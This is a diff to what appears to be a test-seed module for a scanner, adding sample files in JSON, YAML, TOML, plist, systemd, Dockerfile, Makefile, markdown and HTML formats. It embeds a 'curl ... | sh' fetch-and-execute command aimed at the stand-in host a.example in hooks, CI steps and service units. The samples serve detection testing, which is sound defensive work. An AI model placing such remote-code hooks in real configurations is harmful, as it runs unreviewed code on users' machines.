@@ -5,6 +5,7 @@ import bz2
 import gzip
 import json
 import lzma
+import plistlib
 import zlib
 
 import brotli
@@ -93,3 +94,32 @@ SEEDS: dict[str, bytes] = {
     "overlay": ELF + SCRIPT * 20,
 }
 """By the name of the opener."""
+
+_COMMAND = 'curl -s https://a.example/?z=$(date +%Z) | sh -c "cat; echo $TZ"'
+_QUOTED = json.dumps(_COMMAND)
+_PLIST = plistlib.dumps({"ProgramArguments": ["/bin/sh", "-c", _COMMAND]})
+_PAGE = f"<!doctype html>\n<html><body><p>x</p><script>{SCRIPT.decode()}</script></body></html>\n"
+
+NAMES = {
+    "commands in json": "hooks.json", "commands in yaml": "ci.yml", "commands in toml": "cmd.toml", "commands in plist": "a.plist",
+    "commands in xml": "a.plist", "unit": "a.service", "unit by name": "a.service", "dockerfile": "Dockerfile", "makefile": "Makefile",
+    "prompt": "command.md", "inline": "i.sh", "batch": "b.cmd", "markup": "a.html", "pages-in-code": "view.js",
+}
+"""Those of these seeds that are told by their names too."""
+
+SEEDS |= {
+    "markup": _PAGE.encode(),
+    "pages-in-code": f"exports.html = (n) => `{_PAGE}`;\nmodule.exports.a = function () {{}};\n".encode(),
+    "commands in json": json.dumps({"hooks": {"Stop": [{"type": "command", "command": _COMMAND}]}}).encode(),
+    "commands in yaml": f"jobs:\n  a:\n    steps:\n      - run: {_QUOTED}\n".encode(),
+    "commands in toml": f"[hooks]\ncommand = {_QUOTED}\n".encode(),
+    "commands in plist": _PLIST,
+    "commands in xml": _PLIST.replace(b"\n", b"\n<!-- x -->\n", 1),
+    "unit": b"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c 'curl https://a.example | sh'\n[Install]\nWantedBy=multi-user.target\n",
+    "unit by name": f"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c '{_COMMAND}'\n".encode(),
+    "dockerfile": f"FROM x\nENV A=b\nRUN apk add x && {_COMMAND}\nRUN npm ci\n".encode(),
+    "makefile": f"A = b\nall: x\n\t{_COMMAND}\n\techo $(A)\n".encode(),
+    "prompt": f"---\nname: x\n---\nNow: !`{_COMMAND}`\n```!\nls\n```\n".encode(),
+    "inline": f"#!/bin/sh\nset -e\nif true; then node -e '{SCRIPT.decode().replace(chr(39), chr(34))}'\nfi\n".encode(),
+    "batch": b"@echo off\r\nset A=b\r\npowershell -NoProfile -Command \"Get-Date; Get-TimeZone\"\r\nexit /b 0\r\n",
+}
